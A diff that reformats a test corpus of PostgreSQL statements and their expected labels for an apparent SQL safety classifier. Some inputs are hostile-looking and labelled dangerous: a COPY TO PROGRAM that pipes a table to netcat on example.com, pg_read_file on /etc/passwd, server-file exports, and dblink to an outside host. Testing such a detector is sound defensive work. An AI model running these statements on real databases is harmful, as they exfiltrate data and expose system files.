@@ -38,11 +38,11 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['SELECT'],
     objects: ['public.orders'],
   }),
-  one(
-    'joins',
-    'SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN billing.invoices i USING (id)',
-    { kinds: ['read'], commands: ['SELECT'], objects: ['orders', 'customers', 'billing.invoices'] },
-  ),
+  one('joins', 'SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id LEFT JOIN billing.invoices i USING (id)', {
+    kinds: ['read'],
+    commands: ['SELECT'],
+    objects: ['orders', 'customers', 'billing.invoices'],
+  }),
   one('subquery in WHERE', 'SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE vip)', {
     kinds: ['read'],
     commands: ['SELECT'],
@@ -81,21 +81,26 @@ export const CORPUS: readonly CorpusEntry[] = [
   }),
 
   // CTEs.
-  one(
-    'read-only CTE',
-    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent",
-    { kinds: ['read'], commands: ['SELECT'], objects: ['orders'], functions: ['now'] },
-  ),
+  one('read-only CTE', "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT * FROM recent", {
+    kinds: ['read'],
+    commands: ['SELECT'],
+    objects: ['orders'],
+    functions: ['now'],
+  }),
   one('recursive CTE names itself', 'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 10) SELECT sum(n) FROM t', {
     kinds: ['read'],
     commands: ['SELECT'],
     functions: ['sum'],
   }),
-  one('a plain CTE body reads the real table of the same name', 'WITH orders AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM orders', {
-    kinds: ['read'],
-    commands: ['SELECT'],
-    objects: ['orders'],
-  }),
+  one(
+    'a plain CTE body reads the real table of the same name',
+    'WITH orders AS (SELECT * FROM orders WHERE total > 100) SELECT * FROM orders',
+    {
+      kinds: ['read'],
+      commands: ['SELECT'],
+      objects: ['orders'],
+    },
+  ),
   one('a qualified name is never a CTE', 'WITH t AS (SELECT 1) SELECT * FROM public.t, t', {
     kinds: ['read'],
     commands: ['SELECT'],
@@ -130,7 +135,11 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['INSERT'],
     objects: ['counters'],
   }),
-  one('UPDATE with WHERE', "UPDATE orders SET status = 'shipped' WHERE id = 7", { kinds: ['write'], commands: ['UPDATE'], objects: ['orders'] }),
+  one('UPDATE with WHERE', "UPDATE orders SET status = 'shipped' WHERE id = 7", {
+    kinds: ['write'],
+    commands: ['UPDATE'],
+    objects: ['orders'],
+  }),
   one('UPDATE without WHERE', "UPDATE orders SET status = 'void'", {
     kinds: ['write'],
     commands: ['UPDATE'],
@@ -143,7 +152,12 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['orders', 'prices'],
   }),
   one('DELETE with a parameter', 'DELETE FROM orders WHERE id = $1', { kinds: ['write'], commands: ['DELETE'], objects: ['orders'] }),
-  one('DELETE without WHERE', 'DELETE FROM orders', { kinds: ['write'], commands: ['DELETE'], objects: ['orders'], writesWithoutWhere: true }),
+  one('DELETE without WHERE', 'DELETE FROM orders', {
+    kinds: ['write'],
+    commands: ['DELETE'],
+    objects: ['orders'],
+    writesWithoutWhere: true,
+  }),
   one('DELETE WHERE true counts as no WHERE', 'DELETE FROM orders WHERE true', {
     kinds: ['write'],
     commands: ['DELETE'],
@@ -156,7 +170,11 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['orders'],
     writesWithoutWhere: true,
   }),
-  one('WHERE CURRENT OF is a WHERE', 'DELETE FROM orders WHERE CURRENT OF c', { kinds: ['write'], commands: ['DELETE'], objects: ['orders'] }),
+  one('WHERE CURRENT OF is a WHERE', 'DELETE FROM orders WHERE CURRENT OF c', {
+    kinds: ['write'],
+    commands: ['DELETE'],
+    objects: ['orders'],
+  }),
   one(
     'MERGE',
     'MERGE INTO stock s USING deliveries d ON s.item = d.item WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)',
@@ -174,10 +192,18 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['SELECT FOR UPDATE'],
     objects: ['orders'],
   }),
-  one('locking subquery', 'SELECT * FROM (SELECT * FROM orders FOR SHARE) s', { kinds: ['read', 'write'], commands: ['SELECT'], objects: ['orders'] }),
+  one('locking subquery', 'SELECT * FROM (SELECT * FROM orders FOR SHARE) s', {
+    kinds: ['read', 'write'],
+    commands: ['SELECT'],
+    objects: ['orders'],
+  }),
 
   // COPY.
-  one('COPY FROM STDIN', 'COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', { kinds: ['write'], commands: ['COPY'], objects: ['orders'] }),
+  one('COPY FROM STDIN', 'COPY orders (id, total) FROM STDIN WITH (FORMAT csv)', {
+    kinds: ['write'],
+    commands: ['COPY'],
+    objects: ['orders'],
+  }),
   one('COPY TO STDOUT', 'COPY orders TO STDOUT', { kinds: ['read'], commands: ['COPY'], objects: ['orders'] }),
   one('COPY (query) TO STDOUT', 'COPY (SELECT id FROM orders WHERE total > 10) TO STDOUT WITH CSV HEADER', {
     kinds: ['read'],
@@ -195,17 +221,29 @@ export const CORPUS: readonly CorpusEntry[] = [
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY TO PROGRAM', "COPY orders TO PROGRAM 'nc example.com 1234'", { kinds: ['read', 'dangerous'], commands: ['COPY'], objects: ['orders'] }),
+  one('COPY TO PROGRAM', "COPY orders TO PROGRAM 'nc example.com 1234'", {
+    kinds: ['read', 'dangerous'],
+    commands: ['COPY'],
+    objects: ['orders'],
+  }),
   one('COPY FROM a server file', "COPY orders FROM '/var/lib/postgresql/orders.csv'", {
     kinds: ['write', 'dangerous'],
     commands: ['COPY'],
     objects: ['orders'],
   }),
-  one('COPY TO a server file', "COPY orders TO '/tmp/orders.csv'", { kinds: ['read', 'dangerous'], commands: ['COPY'], objects: ['orders'] }),
+  one('COPY TO a server file', "COPY orders TO '/tmp/orders.csv'", {
+    kinds: ['read', 'dangerous'],
+    commands: ['COPY'],
+    objects: ['orders'],
+  }),
 
   // EXPLAIN.
   one('EXPLAIN a read', 'EXPLAIN SELECT * FROM orders', { kinds: ['read'], commands: ['EXPLAIN'], objects: ['orders'] }),
-  one('EXPLAIN ANALYZE a read', 'EXPLAIN ANALYZE SELECT * FROM orders', { kinds: ['read'], commands: ['EXPLAIN', 'SELECT'], objects: ['orders'] }),
+  one('EXPLAIN ANALYZE a read', 'EXPLAIN ANALYZE SELECT * FROM orders', {
+    kinds: ['read'],
+    commands: ['EXPLAIN', 'SELECT'],
+    objects: ['orders'],
+  }),
   one('EXPLAIN a write does not run it', 'EXPLAIN DELETE FROM orders', { kinds: ['read'], commands: ['EXPLAIN'], objects: ['orders'] }),
   one('EXPLAIN ANALYZE a write runs it', 'EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', {
     kinds: ['write'],
@@ -231,7 +269,12 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['orders'],
     prepares: 'del',
   }),
-  one('PREPARE a read', 'PREPARE q AS SELECT * FROM orders', { kinds: ['read'], commands: ['PREPARE', 'SELECT'], objects: ['orders'], prepares: 'q' }),
+  one('PREPARE a read', 'PREPARE q AS SELECT * FROM orders', {
+    kinds: ['read'],
+    commands: ['PREPARE', 'SELECT'],
+    objects: ['orders'],
+    prepares: 'q',
+  }),
   one('EXECUTE', 'EXECUTE del(5)', { kinds: ['unknown'], commands: ['EXECUTE'], executes: 'del', unknownReason: /session resolves/ }),
   one('EXECUTE with a dangerous argument', 'EXECUTE q(pg_terminate_backend(42))', {
     kinds: ['dangerous', 'unknown'],
@@ -249,14 +292,22 @@ export const CORPUS: readonly CorpusEntry[] = [
     kinds: ['ddl'],
     commands: ['CREATE FUNCTION'],
   }),
-  one('calling a function the classifier does not know', 'SELECT wipe()', { kinds: ['read', 'write'], commands: ['SELECT'], functions: ['wipe'] }),
+  one('calling a function the classifier does not know', 'SELECT wipe()', {
+    kinds: ['read', 'write'],
+    commands: ['SELECT'],
+    functions: ['wipe'],
+  }),
   one('a schema-qualified lookalike of a built-in is not the built-in', "SELECT public.lower('A')", {
     kinds: ['read', 'write'],
     commands: ['SELECT'],
     functions: ['public.lower'],
   }),
   one('nextval writes', "SELECT nextval('orders_id_seq')", { kinds: ['read', 'write'], commands: ['SELECT'], functions: ['nextval'] }),
-  one('advisory locks write', 'SELECT pg_advisory_lock(42)', { kinds: ['read', 'write'], commands: ['SELECT'], functions: ['pg_advisory_lock'] }),
+  one('advisory locks write', 'SELECT pg_advisory_lock(42)', {
+    kinds: ['read', 'write'],
+    commands: ['SELECT'],
+    functions: ['pg_advisory_lock'],
+  }),
   one('pg_sleep is read-only', 'SELECT pg_sleep(1)', { kinds: ['read'], commands: ['SELECT'], functions: ['pg_sleep'] }),
   one('CALL', 'CALL archive_orders(2024)', { kinds: ['write'], commands: ['CALL'], functions: ['archive_orders'] }),
   one('an operator that is not built in', 'SELECT 1 === 2', { kinds: ['read', 'write'], commands: ['SELECT'] }),
@@ -297,7 +348,11 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['daily', 'orders'],
     functions: ['count'],
   }),
-  one('REFRESH MATERIALIZED VIEW', 'REFRESH MATERIALIZED VIEW daily', { kinds: ['write'], commands: ['REFRESH MATERIALIZED VIEW'], objects: ['daily'] }),
+  one('REFRESH MATERIALIZED VIEW', 'REFRESH MATERIALIZED VIEW daily', {
+    kinds: ['write'],
+    commands: ['REFRESH MATERIALIZED VIEW'],
+    objects: ['daily'],
+  }),
 
   // DDL.
   one(
@@ -312,8 +367,16 @@ export const CORPUS: readonly CorpusEntry[] = [
     functions: ['nextval'],
   }),
   one('CREATE TEMP TABLE', 'CREATE TEMP TABLE scratch (x int)', { kinds: ['ddl'], commands: ['CREATE TABLE'], objects: ['scratch'] }),
-  one('ALTER TABLE ADD COLUMN', 'ALTER TABLE orders ADD COLUMN note text', { kinds: ['ddl'], commands: ['ALTER TABLE'], objects: ['orders'] }),
-  one('ALTER TABLE OWNER', 'ALTER TABLE orders OWNER TO mallory', { kinds: ['ddl', 'privilege'], commands: ['ALTER TABLE'], objects: ['orders'] }),
+  one('ALTER TABLE ADD COLUMN', 'ALTER TABLE orders ADD COLUMN note text', {
+    kinds: ['ddl'],
+    commands: ['ALTER TABLE'],
+    objects: ['orders'],
+  }),
+  one('ALTER TABLE OWNER', 'ALTER TABLE orders OWNER TO mallory', {
+    kinds: ['ddl', 'privilege'],
+    commands: ['ALTER TABLE'],
+    objects: ['orders'],
+  }),
   one('ALTER TABLE DISABLE ROW LEVEL SECURITY', 'ALTER TABLE orders DISABLE ROW LEVEL SECURITY', {
     kinds: ['ddl', 'privilege'],
     commands: ['ALTER TABLE'],
@@ -438,8 +501,16 @@ export const CORPUS: readonly CorpusEntry[] = [
     objects: ['pg_stat_activity'],
     functions: ['pg_terminate_backend'],
   }),
-  one('lo_export', "SELECT lo_export(16409, '/tmp/dump')", { kinds: ['read', 'dangerous'], commands: ['SELECT'], functions: ['lo_export'] }),
-  one('pg_read_file', "SELECT pg_read_file('/etc/passwd')", { kinds: ['read', 'dangerous'], commands: ['SELECT'], functions: ['pg_read_file'] }),
+  one('lo_export', "SELECT lo_export(16409, '/tmp/dump')", {
+    kinds: ['read', 'dangerous'],
+    commands: ['SELECT'],
+    functions: ['lo_export'],
+  }),
+  one('pg_read_file', "SELECT pg_read_file('/etc/passwd')", {
+    kinds: ['read', 'dangerous'],
+    commands: ['SELECT'],
+    functions: ['pg_read_file'],
+  }),
   one('dblink', "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t(x int)", {
     kinds: ['read', 'dangerous'],
     commands: ['SELECT'],
